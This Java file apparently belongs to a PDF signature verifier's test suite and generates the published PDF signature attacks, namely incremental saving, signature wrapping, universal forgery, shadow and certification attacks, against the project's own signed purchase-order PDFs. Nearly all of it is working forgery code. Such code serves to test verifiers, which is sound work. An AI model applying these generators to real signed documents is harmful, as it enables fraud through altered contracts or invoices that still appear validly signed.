package io.sealgate.signing.verify;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSNull;
import org.apache.pdfbox.cos.COSObjectKey;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceDictionary;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceStream;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDSignatureField;

import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Produces the published PDF signature attacks (pdf-insecurity.org: Mladenov et al. 2019, Mainka et al. 2021)
 * from documents our signer made: incremental saving, signature wrapping, universal signature forgery, shadow
 * (hide, replace, hide-and-replace) and certification (evil annotation, sneaky signature) attacks.
 */
final class AttackGenerators {

    private AttackGenerators() {
    }

    // ---- incremental saving attack (ISA) ----

    /** ISA: an incremental update after the signature replaces the page's content (the amount changes). */
    static Path isaReplacesContent(Path signed, Path out) throws Exception {
        try (PDDocument doc = Loader.loadPDF(signed.toFile()); OutputStream os = Files.newOutputStream(out)) {
            PDPage page = doc.getPage(0);
            try (PDPageContentStream cs = new PDPageContentStream(doc, page,
                    PDPageContentStream.AppendMode.OVERWRITE, false)) {
                text(cs, "Purchase order 17: 100 widgets at EUR 1.00");
            }
            page.getCOSObject().setNeedToBeUpdated(true);
            doc.saveIncremental(os, Set.of(page.getCOSObject()));
        }
        return out;
    }

    /** ISA: a second page added in an incremental update. */
    static Path isaAddsPage(Path signed, Path out) throws Exception {
        try (PDDocument doc = Loader.loadPDF(signed.toFile()); OutputStream os = Files.newOutputStream(out)) {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            try (PDPageContentStream cs = new PDPageContentStream(doc, page)) {
                text(cs, "Addendum: the price is EUR 1.00");
            }
            doc.getPages().getCOSObject().setNeedToBeUpdated(true);
            doc.saveIncremental(os, Set.of(doc.getPages().getCOSObject(), page.getCOSObject()));
        }
        return out;
    }

    /** ISA variant: objects appended and redefined with no cross-reference section, just a new %%EOF. */
    static Path isaWithoutXref(Path signed, Path out) throws Exception {
        COSObjectKey content;
        try (PDDocument doc = Loader.loadPDF(signed.toFile())) {
            content = CosCompare.key(doc.getPage(0).getCOSObject().getItem(COSName.CONTENTS));
        }
        String stream = "BT /F1 14 Tf 72 720 Td (Purchase order 17: 100 widgets at EUR 1.00) Tj ET";
        String body = content.getNumber() + " " + content.getGeneration() + " obj\n<< /Length " + stream.length()
                + " >>\nstream\n" + stream + "\nendstream\nendobj\n%%EOF\n";
        byte[] original = Files.readAllBytes(signed);
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        b.writeBytes(original);
        b.writeBytes(body.getBytes(StandardCharsets.ISO_8859_1));
        Files.write(out, b.toByteArray());
        return out;
    }

    // ---- signature wrapping (SWA) ----

    /**
     * SWA: the signed second part is moved to the end of the file, and the bytes in its old place (now inside the
     * range the /ByteRange leaves out) carry a rewritten /ByteRange and the attacker's objects. The digest of the
     * two ranges is unchanged.
     */
    static Path signatureWrapping(Path signed, Path out) throws Exception {
        byte[] data = Files.readAllBytes(signed);
        String text = new String(data, StandardCharsets.ISO_8859_1);
        Matcher m = Pattern.compile("/ByteRange \\[(\\d+) (\\d+) (\\d+) (\\d+)\\s*\\]").matcher(text);
        if (!m.find()) {
            throw new IllegalStateException("no /ByteRange in " + signed);
        }
        int a = Integer.parseInt(m.group(2));
        int b = Integer.parseInt(m.group(3));
        int c = Integer.parseInt(m.group(4));
        byte[] part2 = java.util.Arrays.copyOfRange(data, b, b + c);
        String malicious = "\n% attacker objects live here, outside the signed ranges\n";
        int newStart = data.length + malicious.length();
        String oldRange = m.group();
        String newRange = "/ByteRange [0 " + a + " " + newStart + " " + c + "]";
        StringBuilder padded = new StringBuilder(newRange);
        // keep every offset of the moved copy intact: the rewritten value has the same length
        while (padded.length() < oldRange.length()) {
            padded.insert(padded.length() - 1, ' ');
        }
        if (padded.length() != oldRange.length()) {
            throw new IllegalStateException("new byte range does not fit: " + padded);
        }
        byte[] middle = data.clone();
        byte[] replacement = padded.toString().getBytes(StandardCharsets.ISO_8859_1);
        System.arraycopy(replacement, 0, middle, m.start(), replacement.length);
        ByteArrayOutputStream o = new ByteArrayOutputStream();
        o.writeBytes(middle);
        o.writeBytes(malicious.getBytes(StandardCharsets.ISO_8859_1));
        o.writeBytes(part2);
        Files.write(out, o.toByteArray());
        return out;
    }

    // ---- universal signature forgery (USF) ----

    /** The USF variants: how the signature dictionary's /Contents and /ByteRange are broken. */
    enum Forgery {
        CONTENTS_MISSING, CONTENTS_NULL, CONTENTS_EMPTY, BYTE_RANGE_MISSING, BYTE_RANGE_NULL, BYTE_RANGE_ZEROS,
        BYTE_RANGE_NEGATIVE
    }

    /** USF: a signature field whose signature dictionary has no (usable) /Contents or /ByteRange. */
    static Path universalForgery(Path original, Path out, Forgery forgery, String signer) throws Exception {
        try (PDDocument doc = Loader.loadPDF(original.toFile())) {
            PDAcroForm form = new PDAcroForm(doc);
            doc.getDocumentCatalog().setAcroForm(form);
            form.setSignaturesExist(true);
            form.setAppendOnly(true);
            PDSignatureField field = new PDSignatureField(form);
            field.setPartialName("Signature1");
            COSDictionary sig = new COSDictionary();
            sig.setItem(COSName.TYPE, COSName.SIG);
            sig.setItem(COSName.FILTER, COSName.getPDFName("Adobe.PPKLite"));
            sig.setItem(COSName.SUB_FILTER, COSName.getPDFName("ETSI.CAdES.detached"));
            sig.setString(COSName.NAME, signer);
            switch (forgery) {
                case CONTENTS_MISSING -> sig.setItem(COSName.BYTERANGE, range(0, 10, 20, 10));
                case CONTENTS_NULL -> {
                    sig.setItem(COSName.CONTENTS, COSNull.NULL);
                    sig.setItem(COSName.BYTERANGE, range(0, 10, 20, 10));
                }
                case CONTENTS_EMPTY -> {
                    sig.setItem(COSName.CONTENTS, new COSString(new byte[0]));
                    sig.setItem(COSName.BYTERANGE, range(0, 10, 20, 10));
                }
                case BYTE_RANGE_MISSING -> sig.setItem(COSName.CONTENTS, new COSString(new byte[64]));
                case BYTE_RANGE_NULL -> {
                    sig.setItem(COSName.CONTENTS, new COSString(new byte[64]));
                    sig.setItem(COSName.BYTERANGE, COSNull.NULL);
                }
                case BYTE_RANGE_ZEROS -> {
                    sig.setItem(COSName.CONTENTS, new COSString(new byte[64]));
                    sig.setItem(COSName.BYTERANGE, range(0, 0, 0, 0));
                }
                case BYTE_RANGE_NEGATIVE -> {
                    sig.setItem(COSName.CONTENTS, new COSString(new byte[64]));
                    sig.setItem(COSName.BYTERANGE, range(0, -1, 0, -1));
                }
            }
            field.getCOSObject().setItem(COSName.V, sig);
            PDAnnotationWidget widget = field.getWidgets().get(0);
            widget.setRectangle(new PDRectangle(0, 0, 0, 0));
            widget.setPage(doc.getPage(0));
            doc.getPage(0).getAnnotations().add(widget);
            form.getFields().add(field);
            doc.save(out.toFile());
        }
        return out;
    }

    private static COSArray range(long... values) {
        COSArray a = new COSArray();
        for (long v : values) {
            a.add(COSInteger.get(v));
        }
        return a;
    }

    // ---- shadow attacks ----

    /**
     * The document the shadow-attack victim signs: it says "EUR 10.00", drawn through a Form XObject ("the
     * overlay") over hidden text saying "EUR 1000.00", and it carries an unused second page in an unused catalog
     * entry. Nothing is visible that the signer does not read.
     */
    static Path shadowOriginal(Path out) throws Exception {
        try (PDDocument doc = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            PDFormXObject overlay = new PDFormXObject(doc);
            overlay.setBBox(new PDRectangle(0, 0, 600, 100));
            overlay.setResources(new org.apache.pdfbox.pdmodel.PDResources());
            try (PDPageContentStream cs = new PDPageContentStream(doc,
                    new PDAppearanceStream(overlay.getCOSObject()))) {
                cs.setNonStrokingColor(1f, 1f, 1f);
                cs.addRect(0, 0, 600, 100);
                cs.fill();
                cs.setNonStrokingColor(0f, 0f, 0f);
                text(cs, "Purchase order 17: total EUR 10.00", 72, 50);
            }
            try (PDPageContentStream cs = new PDPageContentStream(doc, page)) {
                text(cs, "Purchase order 17: total EUR 1000.00", 72, 720);
                cs.saveGraphicsState();
                cs.transform(org.apache.pdfbox.util.Matrix.getTranslateInstance(0, 670));
                cs.drawForm(overlay);
                cs.restoreGraphicsState();
            }
            PDPage hidden = new PDPage(PDRectangle.A4);
            try (PDPageContentStream cs = new PDPageContentStream(doc, hidden)) {
                text(cs, "Purchase order 17: 10000 widgets, total EUR 99000.00");
            }
            doc.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Unused"), hidden.getCOSObject());
            doc.save(out.toFile());
        }
        return out;
    }

    /** Shadow "hide": after signing, the overlay XObject is overwritten by an empty one, revealing the text. */
    static Path shadowHide(Path signed, Path out) throws Exception {
        COSObjectKey overlay;
        try (PDDocument doc = Loader.loadPDF(signed.toFile())) {
            var resources = doc.getPage(0).getResources();
            COSName name = resources.getXObjectNames().iterator().next();
            COSDictionary xobjects = resources.getCOSObject().getCOSDictionary(COSName.XOBJECT);
            overlay = CosCompare.key(xobjects.getItem(name));
        }
        String body = "<< /Type /XObject /Subtype /Form /BBox [0 0 600 100] /Length 0 >>\nstream\n\nendstream";
        return appendRaw(signed, out, Map.of(overlay, body), null);
    }

    /** Shadow "replace": after signing, the font of the page is overwritten (a font that draws other glyphs). */
    static Path shadowReplace(Path signed, Path out) throws Exception {
        COSObjectKey font;
        try (PDDocument doc = Loader.loadPDF(signed.toFile())) {
            var resources = doc.getPage(0).getResources();
            COSName name = resources.getFontNames().iterator().next();
            font = CosCompare.key(resources.getCOSObject().getCOSDictionary(COSName.FONT).getItem(name));
        }
        if (font == null) {
            throw new IllegalStateException("the page's font is not an indirect object");
        }
        String body = "<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>";
        return appendRaw(signed, out, Map.of(font, body), null);
    }

    /** Shadow "hide-and-replace": a new catalog and page tree show the unused page instead of the signed one. */
    static Path shadowHideAndReplace(Path signed, Path out) throws Exception {
        COSObjectKey hidden;
        int size;
        try (PDDocument doc = Loader.loadPDF(signed.toFile())) {
            hidden = CosCompare.key(doc.getDocumentCatalog().getCOSObject().getItem(COSName.getPDFName("Unused")));
            size = doc.getDocument().getTrailer().getInt(COSName.SIZE);
        }
        COSObjectKey catalog = new COSObjectKey(size, 0);
        COSObjectKey pages = new COSObjectKey(size + 1, 0);
        Map<COSObjectKey, String> objects = new LinkedHashMap<>();
        objects.put(catalog, "<< /Type /Catalog /Pages " + pages.getNumber() + " 0 R >>");
        objects.put(pages, "<< /Type /Pages /Kids [" + hidden.getNumber() + " " + hidden.getGeneration()
                + " R] /Count 1 >>");
        return appendRaw(signed, out, objects, catalog);
    }

    // ---- certification attacks ----

    /** Evil annotation: a FreeText annotation over the amount, added after a certification signature. */
    static Path evilAnnotation(Path certified, Path out) throws Exception {
        try (PDDocument doc = Loader.loadPDF(certified.toFile()); OutputStream os = Files.newOutputStream(out)) {
            PDPage page = doc.getPage(0);
            var note = new org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFreeText();
            note.setRectangle(new PDRectangle(60, 700, 480, 40));
            note.setContents("Purchase order 17: 100 widgets at EUR 1.00");
            note.setDefaultAppearance("/Helv 14 Tf 0 g");
            page.getAnnotations().add(note);
            page.getCOSObject().setNeedToBeUpdated(true);
            doc.saveIncremental(os, Set.of(page.getCOSObject(), note.getCOSObject()));
        }
        return out;
    }

    /** Sneaky signature: an (unsigned) signature field whose appearance writes over the amount. */
    static Path sneakySignatureField(Path certified, Path out) throws Exception {
        try (PDDocument doc = Loader.loadPDF(certified.toFile()); OutputStream os = Files.newOutputStream(out)) {
            PDAcroForm form = doc.getDocumentCatalog().getAcroForm();
            PDPage page = doc.getPage(0);
            PDSignatureField field = new PDSignatureField(form);
            field.setPartialName("Sneaky");
            PDAnnotationWidget widget = field.getWidgets().get(0);
            widget.setRectangle(new PDRectangle(60, 700, 480, 40));
            widget.setPage(page);
            PDAppearanceStream appearance = new PDAppearanceStream(doc);
            appearance.setBBox(new PDRectangle(480, 40));
            appearance.setResources(new org.apache.pdfbox.pdmodel.PDResources());
            try (PDPageContentStream cs = new PDPageContentStream(doc, appearance)) {
                cs.setNonStrokingColor(1f, 1f, 1f);
                cs.addRect(0, 0, 480, 40);
                cs.fill();
                cs.setNonStrokingColor(0f, 0f, 0f);
                text(cs, "Purchase order 17: 100 widgets at EUR 1.00", 10, 15);
            }
            PDAppearanceDictionary ap = new PDAppearanceDictionary();
            ap.setNormalAppearance(appearance);
            widget.setAppearance(ap);
            page.getAnnotations().add(widget);
            form.getFields().add(field);
            page.getCOSObject().setNeedToBeUpdated(true);
            form.getCOSObject().setNeedToBeUpdated(true);
            doc.getDocumentCatalog().getCOSObject().setNeedToBeUpdated(true);
            doc.saveIncremental(os, Set.of(page.getCOSObject(), form.getCOSObject(), field.getCOSObject(),
                    doc.getDocumentCatalog().getCOSObject()));
        }
        return out;
    }

    // ---- helpers ----

    /** Appends an incremental update with a classic cross-reference section defining {@code objects}. */
    static Path appendRaw(Path in, Path out, Map<COSObjectKey, String> objects, COSObjectKey newRoot)
            throws Exception {
        byte[] data = Files.readAllBytes(in);
        String root;
        long size;
        try (PDDocument doc = Loader.loadPDF(data)) {
            COSDictionary trailer = doc.getDocument().getTrailer();
            COSObjectKey r = CosCompare.key(trailer.getItem(COSName.ROOT));
            root = r.getNumber() + " " + r.getGeneration() + " R";
            size = trailer.getLong(COSName.SIZE);
        }
        if (newRoot != null) {
            root = newRoot.getNumber() + " " + newRoot.getGeneration() + " R";
        }
        String text = new String(data, StandardCharsets.ISO_8859_1);
        Matcher m = Pattern.compile("startxref\\s+(\\d+)").matcher(text);
        long prev = -1;
        while (m.find()) {
            prev = Long.parseLong(m.group(1));
        }
        ByteArrayOutputStream o = new ByteArrayOutputStream();
        o.writeBytes(data);
        if (data[data.length - 1] != '\n') {
            o.write('\n');
        }
        StringBuilder xref = new StringBuilder("xref\n");
        for (Map.Entry<COSObjectKey, String> e : objects.entrySet()) {
            long offset = o.size();
            o.writeBytes((e.getKey().getNumber() + " " + e.getKey().getGeneration() + " obj\n" + e.getValue()
                    + "\nendobj\n").getBytes(StandardCharsets.ISO_8859_1));
            xref.append(e.getKey().getNumber()).append(" 1\n")
                .append(String.format("%010d %05d n \n", offset, e.getKey().getGeneration()));
            size = Math.max(size, e.getKey().getNumber() + 1);
        }
        long xrefOffset = o.size();
        xref.append("trailer\n<< /Size ").append(size).append(" /Root ").append(root).append(" /Prev ")
            .append(prev).append(" >>\nstartxref\n").append(xrefOffset).append("\n%%EOF\n");
        o.writeBytes(xref.toString().getBytes(StandardCharsets.ISO_8859_1));
        Files.write(out, o.toByteArray());
        return out;
    }

    private static void text(PDPageContentStream cs, String line) throws Exception {
        text(cs, line, 72, 720);
    }

    private static void text(PDPageContentStream cs, String line, float x, float y) throws Exception {
        cs.beginText();
        cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 14);
        cs.newLineAtOffset(x, y);
        cs.showText(line);
        cs.endText();
    }

    static COSBase unused(COSBase b) {
        return b;
    }
}
